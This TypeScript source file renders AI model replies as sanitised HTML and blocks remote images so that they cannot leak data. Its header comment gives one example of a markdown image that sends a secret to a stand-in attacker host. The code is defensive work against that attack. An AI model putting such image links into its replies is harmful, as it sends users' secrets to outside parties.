/**
 * Model text → safe HTML. marked renders, DOMPurify sanitises; nothing else in the client turns
 * model text into markup. Links open in a new tab without an opener.
 *
 * Model output is untrusted, and an image is a request the page makes by itself: a reply with
 * `![x](https://attacker/?secret=…)` would make every tab that opens the thread fetch it. So an
 * image is shown only from a `data:` URL; any other becomes a link the human may choose to follow.
 */
import DOMPurify from 'dompurify'
import { Marked } from 'marked'
import { highlight } from './highlight.js'

const marked = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    // A fenced block in a language we know is coloured once the (lazily loaded) highlighter is here.
    code({ text, lang }) {
      const language = (lang ?? '').match(/^\S*/)?.[0]
      const coloured = highlight(text.replace(/\n$/, ''), language)
      if (coloured === undefined) return false
      return `<pre><code class="hljs language-${escapeAttr(language ?? '')}">${coloured}</code></pre>\n`
    },
    image({ href, title, text }) {
      if (isInline(href)) return false // marked's own rendering
      const label = text ? `Image: ${text}` : 'Image'
      return `<a href="${escapeAttr(href)}" class="remote-image"${title ? ` title="${escapeAttr(title)}"` : ''}>${escapeText(label)}</a>`
    },
  },
})

const isInline = (src: string) => /^data:image\//i.test(src.trim())
const escapeText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
const escapeAttr = (s: string) => escapeText(s).replace(/"/g, '&quot;')

let hooked = false
function purifier() {
  if (!hooked) {
    DOMPurify.addHook('afterSanitizeAttributes', (node) => {
      if (node instanceof Element && node.tagName === 'A' && node.hasAttribute('href')) {
        node.setAttribute('target', '_blank')
        node.setAttribute('rel', 'noopener noreferrer')
      }
      // Raw HTML images too: without a remote source the browser has nothing to fetch.
      if (node instanceof Element && node.tagName === 'IMG') {
        if (!isInline(node.getAttribute('src') ?? '')) node.removeAttribute('src')
        node.removeAttribute('srcset')
      }
    })
    hooked = true
  }
  return DOMPurify
}

/**
 * `copyButtons`: each code block gets a Copy button (added after sanitising, so it is ours, not the
 * model's); the transcript handles its click.
 */
export function renderMarkdown(text: string, options: { copyButtons?: boolean } = {}): string {
  const html = marked.parse(text) as string
  const clean = purifier().sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'picture', 'source', 'video', 'audio'],
    FORBID_ATTR: ['style'],
  })
  return options.copyButtons ? withCopyButtons(clean) : clean
}

const COPY_BUTTON = '<button type="button" class="copy-code" data-copy-code aria-label="Copy code">Copy</button>'

/**
 * Sanitised HTML: every `<pre>` in it is markup (text `<pre>` is escaped), so a plain replace is safe.
 * Each code block gets its language as a label, and its `<pre>` a tab stop with a name: a block wider
 * than the column scrolls sideways, and the keyboard must reach it to scroll it (axe's
 * scrollable-region-focusable).
 */
function withCopyButtons(clean: string): string {
  return clean
    .replace(/<pre(\s[^>]*)?>(<code[^>]*>)?/g, (_m, attrs: string | undefined, code: string | undefined) => {
      const language = /\blanguage-([\w+#.-]+)/.exec(code ?? '')?.[1]
      const label = language ? `<span class="code-lang" aria-hidden="true">${escapeText(language)}</span>` : ''
      const name = language ? `Code, ${escapeAttr(language)}` : 'Code'
      return `<div class="code-block">${label}${COPY_BUTTON}<pre${attrs ?? ''} tabindex="0" role="region" aria-label="${name}">${code ?? ''}`
    })
    .replace(/<\/pre>/g, '</pre></div>')
}
